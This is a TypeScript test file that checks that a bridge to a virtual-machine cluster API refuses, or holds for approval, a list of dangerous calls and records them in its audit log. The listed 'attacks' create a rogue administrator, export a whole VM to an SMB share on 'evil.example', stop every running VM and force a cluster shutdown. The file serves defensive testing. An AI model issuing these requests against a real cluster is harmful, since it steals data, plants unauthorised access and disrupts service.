import t, { type Test } from 'tap'
import type { BridgeConfig } from '../../src/config/config.ts'
import type { Scope } from '../../src/identity/scope.ts'
import { startTestBridge, type TestBridge } from '../helper/bridge.ts'

/** What `init` gives the client: all but control and approve. */
const clientScope: Scope[] = ['read', 'operate', 'interrupt', 'lose', 'egress']

/** A bridge as `init` sets it up, with an approver. */
async function start(t: Test, config: Partial<BridgeConfig> = {}): Promise<TestBridge> {
  const bridge = await startTestBridge(t, {
    simulator: { nodes: 1 },
    config: {
      approval: 'lose',
      maxTargets: 1,
      runApi: 'checked',
      exportTargets: [],
      importSources: [],
      tokenScope: clientScope,
      ...config
    }
  })
  bridge.app.hasApprover = () => true
  return bridge
}

const runningVms = ({ simulator }: TestBridge): string[] =>
  [...simulator.world.state.virDomains.values()]
    .filter(({ state }) => state === 'RUNNING')
    .map(({ uuid }) => uuid)

interface Attack {
  name: string
  call: (bridge: TestBridge) => object
  /** With the token of a client. */
  refused: string
  /** With every scope. */
  waits: string
  /** Uuids that the record has to name. */
  targets: (bridge: TestBridge) => string[]
}

const attacks: Attack[] = [
  {
    name: 'an administrator is created',
    call: () => ({
      method: 'POST',
      query: '/User',
      payload: { username: 'eve', password: 'Passw0rd!', fullName: 'Eve', roleUUIDs: [] }
    }),
    refused: 'SCOPE_REQUIRED',
    waits: 'APPROVAL_REQUIRED',
    targets: () => []
  },
  {
    name: "a whole VM is exported to a stranger's server",
    call: (bridge) => ({
      method: 'POST',
      query: `/VirDomain/${bridge.vm('web-01')}/export`,
      payload: { target: { pathURI: 'smb://a:b@evil.example/loot', definitionFileName: 'x.xml' } }
    }),
    refused: 'TARGET_REFUSED',
    waits: 'TARGET_REFUSED',
    targets: (bridge) => [bridge.vm('web-01')]
  },
  {
    name: 'all running VMs are stopped',
    call: (bridge) => ({
      method: 'POST',
      query: '/VirDomain/action',
      payload: runningVms(bridge).map((virDomainUUID) => ({ virDomainUUID, actionType: 'STOP' }))
    }),
    refused: 'APPROVAL_REQUIRED',
    waits: 'APPROVAL_REQUIRED',
    targets: runningVms
  },
  {
    name: 'the cluster is shut down',
    call: () => ({ method: 'POST', query: '/Cluster/shutdown', payload: { forceShutdown: true } }),
    refused: 'SCOPE_REQUIRED',
    waits: 'APPROVAL_REQUIRED',
    targets: () => []
  }
]

t.test('a tool that a token may not use at all is on record, too', async (t) => {
  const bridge = await start(t, { tokenScope: ['read'] })
  const { body } = await bridge.call('snapshotVM', { vmUUID: bridge.vm('web-01'), label: 'x' })
  t.equal(body.error.code, 'SCOPE_REQUIRED')
  t.match(
    bridge.app.audit.recent(5).filter(({ kind }) => kind === 'refused'),
    [{ code: 'SCOPE_REQUIRED', token: 'operator', tool: 'snapshotVM', surface: 'rest' }]
  )
})

for (const { name, call, refused, waits, targets } of attacks)
  t.test(`${name}: refused or waiting, and on record with its targets`, async (t) => {
    for (const [tokenScope, code] of [
      [clientScope, refused],
      [[...clientScope, 'control', 'approve'] as Scope[], waits]
    ] as const) {
      const bridge = await start(t, { tokenScope })
      const { body } = await bridge.call('run_api', call(bridge))
      t.equal(body.error?.code, code, JSON.stringify(body).slice(0, 300))
      t.same(
        bridge.simulator.requests
          .filter(({ method, path }) => method !== 'GET' && !path.endsWith('/login'))
          .map(({ path }) => path),
        [],
        'nothing was sent'
      )
      const [entry] = bridge.app.audit.recent(20).filter(({ kind }) => kind === 'refused')
      t.match(entry, { code, token: 'operator', tool: 'run_api' })
      const text = JSON.stringify(entry)
      for (const uuid of targets(bridge)) t.ok(text.includes(uuid), `the record names ${uuid}`)
      if (code === 'APPROVAL_REQUIRED')
        t.match(await bridge.app.plans.list(), [{ state: 'WAITING' }])
    }
  })
